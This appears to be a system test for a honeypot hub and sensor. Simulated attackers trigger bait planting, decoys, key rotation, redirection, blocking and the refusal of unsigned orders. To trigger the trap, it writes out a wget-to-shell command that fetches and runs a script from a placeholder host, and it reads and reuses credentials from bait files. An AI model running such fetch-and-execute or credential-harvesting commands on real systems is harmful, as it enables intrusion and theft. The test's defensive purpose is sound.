import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Client } from 'ssh2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { Directives } from '../../packages/hub/src/directives/directives.ts';
import { execute, logIn } from './attacker-client.ts';
import {
  eventually,
  freshDataDirectory,
  type Instance,
  processesOf,
  removeDataDirectory,
  run,
  startInstance,
} from './instance.ts';
import { type Orders, openOrders } from './orders.ts';
import { runOrFail } from './program.ts';

/** What is done in answer, by a real hub on a real sensor, as attackers see it. */

const ATTACKER = '127.0.0.5';
const BYSTANDER = '127.0.0.6';
/** Everybody here comes from a loopback address, which is otherwise left alone. Keys are rotated below, by the test. */
const CONFIGURATION = `
agent: { threshold: 0.5, autoAction: true }
response:
  protectPrivateAddresses: false
  actions: { rotate_key: { automatic: false }, launch_decoy: { automatic: false } }
`;
const dataDirectory = freshDataDirectory();
let instance: Instance;
let orders: Orders;
const clients: Client[] = [];

const decisionsSchema = z.object({
  items: z.array(z.object({ decisionId: z.string(), kind: z.string(), state: z.string(), source: z.string() })),
});
const actionsSchema = z.object({
  items: z.array(
    z.object({
      id: z.string(),
      kind: z.string(),
      state: z.string(),
      source: z.string().nullable(),
      detail: z.string(),
    }),
  ),
});
const directivesSchema = z.object({
  items: z.array(
    z.object({
      directiveId: z.string(),
      kind: z.string(),
      state: z.string(),
      detail: z.string(),
      data: z.looseObject({}),
      facts: z.looseObject({ files: z.array(z.string()).optional() }),
    }),
  ),
});
const eventsSchema = z.object({
  items: z.array(z.object({ event: z.object({ kind: z.string(), data: z.looseObject({}) }) })),
});
const trapsSchema = z.object({
  items: z.array(z.object({ name: z.string(), port: z.number(), directiveId: z.string().optional() })),
});

async function come(from: string, port = instance.port('ssh'), password = 'admin123'): Promise<Client> {
  const client = await logIn({ port, from, username: 'root', password });
  client.on('error', () => {});
  clients.push(client);
  return client;
}

async function look(client: Client, command: string): Promise<string> {
  return (await execute(client, command)).stdout;
}

async function events(kind: string) {
  return eventsSchema
    .parse(await instance.get(`/api/v1/events?limit=100&kind=${kind}`))
    .items.map(({ event }) => event);
}

/** Gives an order as the hub does, and waits for the sensor's answer. */
async function order(kind: Parameters<Directives['issue']>[0]['kind'], data: object, key: string) {
  const given = await orders.directives.issue({
    sensorId: 'local',
    kind,
    data: data as never, // reason: the schema of the kind is checked by `issue`
    effectMs: null,
    issuedBy: 'the system test',
    idempotencyKey: key,
  });
  const settled = await orders.directives.settled(given.directiveId, { timeoutMs: 10_000 });
  expect(settled).toMatchObject({ state: 'applied', code: null });
  return settled;
}

async function withdraw(directiveId: string): Promise<void> {
  const given = await orders.directives.withdraw(directiveId, 'the system test');
  expect(await orders.directives.settled(given.directiveId, { timeoutMs: 10_000 })).toMatchObject({ state: 'applied' });
}

beforeAll(async () => {
  const file = join(dataDirectory, 'test.yaml');
  writeFileSync(file, CONFIGURATION);
  instance = await startInstance(dataDirectory, {}, ['--config', file]);
  orders = await openOrders(dataDirectory);
}, 120_000);

afterAll(async () => {
  for (const client of clients) client.destroy();
  await orders?.stop();
  await instance?.stop();
  removeDataDirectory(dataDirectory);
});

describe('bait planted in answer to a session', () => {
  let client: Client;
  let planted: readonly string[];
  let decisionId: string;

  it('shows in the running session within a second, as if it had always been there', async () => {
    // Somebody ordinary first: what a hub does for the first time takes longer.
    await look(await come('127.0.0.20'), 'id; uname -a');
    await eventually('a decision', async () => {
      const { items } = decisionsSchema.parse(await instance.get('/api/v1/decisions'));
      return items.length > 0 ? true : null;
    });
    client = await come(ATTACKER);
    const before = await look(client, 'stat -c "%n %Y %h" / /opt /root; date +%s');
    await look(client, 'cd /tmp; wget http://203.0.113.80/x.sh -O x.sh; chmod +x x.sh; sh x.sh');
    const triggeredAtMs = performance.now();
    let seen = 0;
    while (seen === 0 && performance.now() - triggeredAtMs < 30_000) {
      const listed = await look(client, 'ls /opt/deploy 2>/dev/null');
      if (listed.includes('staging.env')) seen = performance.now() - triggeredAtMs;
      else await sleep(20);
    }
    process.stderr.write(`planted bait was seen ${Math.round(seen)} ms after the command was answered\n`);
    expect(seen).toBeGreaterThan(0);
    const order = await eventually("the sensor's answer", async () => {
      const { items } = directivesSchema.parse(await instance.get('/api/v1/directives?kind=insert_trap'));
      return items.find(({ state }) => state === 'applied') ?? null;
    });
    planted = order.facts.files ?? [];
    expect(planted.length).toBeGreaterThan(0);
    const { items } = decisionsSchema.parse(await instance.get('/api/v1/decisions?kind=insert_trap'));
    decisionId = items[0]?.decisionId ?? '';
    await eventually('the decision executed', async () => {
      const answered = decisionsSchema.parse(await instance.get('/api/v1/decisions?kind=insert_trap'));
      return answered.items[0]?.state === 'executed' ? true : null;
    });

    const now = Number(before.trim().split('\n').at(-1));
    const shown = await look(client, `ls -l ${planted.join(' ')}; stat -c %Y ${planted.join(' ')}`);
    for (const path of planted) expect(shown).toContain(path);
    const times = shown.match(/^\d{10}$/gm)?.map(Number) ?? [];
    expect(times).toHaveLength(planted.length);
    for (const time of times) expect(time).toBeLessThan(now - 3600);
    // The directories around it were not touched.
    const after = await look(client, 'stat -c "%n %Y" / /root');
    for (const line of after.trim().split('\n')) expect(before).toContain(line);
    const other = await come(BYSTANDER);
    expect(await look(other, `ls ${planted.join(' ')} 2>/dev/null`)).toBe('');
  });

  it('is there for the attacker after the sensor was killed', async () => {
    await look(client, 'echo mine > /root/mine; sync');
    await sleep(2_500);
    const sensor = processesOf(dataDirectory).find(({ command }) => command.includes('sensor/src/process'));
    expect(sensor).toBeDefined();
    if (sensor !== undefined) process.kill(sensor.id, 'SIGKILL');
    client = await eventually('the trap is back', () => come(ATTACKER).catch(() => null));
    expect(await look(client, `ls ${planted.join(' ')} /root/mine`)).toBe(
      `${[...planted, '/root/mine'].toSorted().join('\n')}\n`,
    );
  });

  it('is reported when it is used', async () => {
    const words = await look(client, `cat ${planted.join(' ')}`);
    const password = /STAGING_PASSWORD='(\S+)'/.exec(words)?.[1] ?? '';
    expect(password).toMatch(/^\S{16}$/);
    await expect(
      logIn({ port: instance.port('ssh'), from: '127.0.0.9', username: 'deploy', password }),
    ).rejects.toThrow();
    const used = await eventually('honeytoken.used', async () => {
      const found = (await events('honeytoken.used')).find(({ data }) =>
        String(data.tokenId).startsWith('deploy_password-'),
      );
      return found ?? null;
    });
    expect(used.data).toMatchObject({ tokenKind: 'password', paths: ['/opt/deploy/staging.env'] });
  });

  it('is gone when the decision is undone, from the same session', async () => {
    const undone = run(dataDirectory, 'decision', 'undo', decisionId);
    expect(undone).toMatchObject({ status: 0 });
    await eventually('the files gone', async () =>
      (await look(client, `ls ${planted.join(' ')} 2>/dev/null`)) === '' ? true : null,
    );
    expect(await look(client, 'cat /root/mine')).toBe('mine\n');
  });
});

describe('an order to a sensor', () => {
  it('opens a decoy that a client reaches, shows it in the list of traps, and closes it again', async () => {
    const decoy = await order(
      'launch_decoy',
      { trap: 'ssh', name: 'decoy-db', address: null, port: 0, persona: 'database-server' },
      'decoy',
    );
    const port = decoy.facts.trap?.port ?? 0;
    const client = await come(BYSTANDER, port);
    expect(await look(client, 'hostname')).not.toBe(await look(await come(BYSTANDER), 'hostname'));
    const listed = trapsSchema.parse(await instance.get('/api/v1/traps')).items.find(({ name }) => name === 'decoy-db');
    expect(listed).toMatchObject({ port, directiveId: decoy.directiveId });
    expect(run(dataDirectory, 'trap', 'list', '-o', 'json').stdout).toContain('decoy-db');
    expect(run(dataDirectory, 'sensor', 'withdraw', decoy.directiveId)).toMatchObject({ status: 0 });
    await expect(logIn({ port, from: BYSTANDER, username: 'root', password: 'admin123' })).rejects.toThrow(
      'ECONNREFUSED',
    );
    expect(trapsSchema.parse(await instance.get('/api/v1/traps')).items.some(({ name }) => name === 'decoy-db')).toBe(
      false,
    );
  });

  it('makes new host keys, which ssh-keyscan sees, while open sessions go on', async () => {
    const scan = () =>
      runOrFail('ssh-keyscan', ['-t', 'rsa,ecdsa,ed25519', '-p', String(instance.port('ssh')), '127.0.0.1']).then(
        (text) =>
          text
            .split('\n')
            .filter((line) => line !== '' && !line.startsWith('#'))
            .toSorted(),
      );
    const client = await come(BYSTANDER);
    const bait = await look(client, 'cat /root/.my.cnf');
    const before = await scan();
    expect(before).toHaveLength(3);
    const rotated = await order('rotate_host_key', { trap: 'ssh', bait: true }, 'rotate');
    const after = await scan();
    expect(after).toHaveLength(3);
    for (const line of after) expect(before).not.toContain(line);
    expect(await look(client, 'echo still here')).toBe('still here\n');
    const back = await come('127.0.0.7');
    const ed25519 =
      after
        .find((line) => line.includes('ssh-ed25519'))
        ?.split(' ')
        .at(-1) ?? '?';
    expect(await look(back, 'cat /etc/ssh/ssh_host_ed25519_key.pub')).toContain(ed25519);
    expect(await look(back, 'cat /root/.my.cnf')).not.toBe(bait);
    // What was there before is found out when it is used.
    const secret = /password="?([^"\n]+)"?/.exec(bait)?.[1] ?? '';
    await logIn({ port: instance.port('ssh'), from: '127.0.0.8', username: 'root', password: secret }).then(
      (found) => clients.push(found),
      () => {},
    );
    await eventually('the old bait used', async () =>
      (await events('honeytoken.used')).some(({ data }) => String(data.tokenId).startsWith('databaseRoot-'))
        ? true
        : null,
    );
    await withdraw(rotated.directiveId);
    expect(await scan()).toEqual(before);
  });

  it('shows a source another machine from its next connection on', async () => {
    const home = await look(await come(BYSTANDER), 'hostname');
    const redirected = await order('redirect', { source: BYSTANDER, persona: 'database-server' }, 'redirect');
    const other = await look(await come(BYSTANDER), 'hostname');
    expect(other).not.toBe(home);
    expect(await look(await come('127.0.0.7'), 'hostname')).toBe(home);
    await withdraw(redirected.directiveId);
    expect(await look(await come(BYSTANDER), 'hostname')).toBe(home);
  });

  it('drops a source, ends its sessions, and says so', async () => {
    const client = await come('127.0.0.10');
    const ended = new Promise<void>((resolve) => client.once('close', () => resolve()));
    const block = await order('block', { source: '127.0.0.10/31', endSessions: true }, 'block');
    await ended;
    await expect(
      logIn({ port: instance.port('ssh'), from: '127.0.0.11', username: 'root', password: 'x' }),
    ).rejects.toThrow();
    await come(BYSTANDER);
    const told = await eventually('source.blocked', async () => {
      const found = await events('source.blocked');
      return found.some(({ data }) => Number(data.connections) > 0) || found.length > 0 ? found : null;
    });
    expect(told.map(({ data }) => data.network)).toContain('127.0.0.10/31');
    await withdraw(block.directiveId);
    await come('127.0.0.11');
  });

  it('is in force again after the sensor was killed, and what was withdrawn is not', async () => {
    const block = await order('block', { source: '127.0.0.12', endSessions: true }, 'block again');
    const decoy = await order(
      'launch_decoy',
      { trap: 'http', name: 'decoy-web', address: null, port: 0, persona: null },
      'decoy again',
    );
    const sensor = processesOf(dataDirectory).find(({ command }) => command.includes('sensor/src/process'));
    if (sensor !== undefined) process.kill(sensor.id, 'SIGKILL');
    await eventually('the trap is back', () => come(BYSTANDER).catch(() => null));
    await expect(
      logIn({ port: instance.port('ssh'), from: '127.0.0.12', username: 'root', password: 'x' }),
    ).rejects.toThrow();
    const answer = await fetch(`http://127.0.0.1:${decoy.facts.trap?.port}/`);
    expect(answer.status).toBe(200);
    await withdraw(block.directiveId);
    await come('127.0.0.12');
  });
});

describe('what is no order of this hub', () => {
  it('is refused by the sensor and reported', async () => {
    // Whoever can write to the database cannot sign: an order put there by hand is not carried out.
    await orders.database.execute(
      `insert into directive_sequences values ('local', 1) on conflict (sensor_id) do update set sequence = directive_sequences.sequence + 1`,
    );
    const [row] = await orders.database.query(`select sequence from directive_sequences where sensor_id = 'local'`);
    const directiveId = '0190a3c2-1111-7abc-8def-0123456789ab';
    const issuedAt = new Date().toISOString();
    const expiresAt = new Date(Date.now() + 60_000).toISOString();
    const data = { source: BYSTANDER, endSessions: true };
    const payload = JSON.stringify({
      directiveId,
      sensorId: 'local',
      sequence: row?.sequence,
      issuedAt,
      expiresAt,
      effectUntil: null,
      kind: 'block',
      data,
    });
    await orders.database.execute(
      `insert into directives (directive_id, sensor_id, sequence, kind, payload, signature, data, issued_at, expires_at, issued_by)
         values ($1, 'local', $2, 'block', $3, $4, $5, $6, $7, 'somebody')`,
      [
        directiveId,
        row?.sequence,
        payload,
        Buffer.alloc(64).toString('base64'),
        JSON.stringify(data),
        issuedAt,
        expiresAt,
      ],
    );
    await orders.database.query(`select pg_notify('directives', 'order local')`);
    const refused = await eventually(
      'directive.answered',
      async () => (await events('directive.answered')).find((event) => event.data.state === 'refused') ?? null,
    );
    expect(refused.data).toMatchObject({ directiveId: null, code: 'bad-signature' });
    await come(BYSTANDER);
    expect(actionsSchema.parse(await instance.get('/api/v1/actions')).items.length).toBeGreaterThan(0);
  });
});
